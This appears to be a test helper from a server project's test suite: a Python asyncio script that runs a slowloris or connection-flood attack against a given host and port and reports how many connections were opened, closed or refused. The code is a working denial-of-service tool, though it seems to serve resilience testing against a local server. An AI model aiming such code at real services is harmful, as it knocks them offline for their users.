"""An attacker in its own process: ``python tests/attack.py MODE HOST PORT``.

It holds ``--connections`` connections from ``--source`` for ``--seconds``,
opening a new one whenever the server closes one:

- ``slowloris``: each sends the start of a request, then a byte of a
  header a second, and never finishes it;
- ``flood``: each is opened as fast as the server accepts and sends nothing.

It prints ``ready`` half a second after it started, then, at the end, one
JSON line: connections opened, closed by the server, failed to connect.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket

IP_BIND_ADDRESS_NO_PORT = 24  # Linux's, not in the socket module
HEAD = b"GET /clients/x/events HTTP/1.1\r\nHost: presence\r\n"


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.opened = 0
        self.closed = 0
        self.failed = 0

    async def connection(self, stop: asyncio.Event) -> None:
        """One slot: a connection, replaced whenever it closes."""
        args = self.args
        while not stop.is_set():
            try:
                # A SYN the server's full queue dropped is retried for minutes.
                async with asyncio.timeout(5):
                    reader, writer = await asyncio.open_connection(sock=await self.connect())
            except (OSError, TimeoutError):
                self.failed += 1
                await asyncio.sleep(0.05)
                continue
            self.opened += 1
            try:
                if args.mode == "slowloris":
                    writer.write(HEAD)
                while not stop.is_set():
                    try:
                        async with asyncio.timeout(1):
                            if not await reader.read(4096):
                                break  # the server closed it
                    except TimeoutError:
                        if args.mode == "slowloris":
                            writer.write(b"X")  # a header that never ends
                self.closed += not stop.is_set()
            except OSError:
                self.closed += 1
            finally:
                writer.close()

    async def connect(self) -> socket.socket:
        sock = socket.socket()
        try:
            # The port is picked at connect(), by the whole address pair: picked
            # at bind(), each of thousands of binds would scan every port in use.
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((self.args.source, 0))
            sock.setblocking(False)
            await asyncio.get_running_loop().sock_connect(sock, (self.args.host, self.args.port))
        except BaseException:
            sock.close()
            raise
        return sock

    async def run(self) -> None:
        stop = asyncio.Event()
        slots = [asyncio.create_task(self.connection(stop)) for _ in range(self.args.connections)]
        await asyncio.sleep(0.5)
        print("ready", flush=True)
        await asyncio.sleep(self.args.seconds)
        stop.set()
        await asyncio.gather(*slots, return_exceptions=True)
        print(json.dumps({"opened": self.opened, "closed": self.closed, "failed": self.failed}))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=("slowloris", "flood"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    os.nice(5)  # it shares the cores with the server it attacks
    asyncio.run(Attack(args).run())


if __name__ == "__main__":
    main()
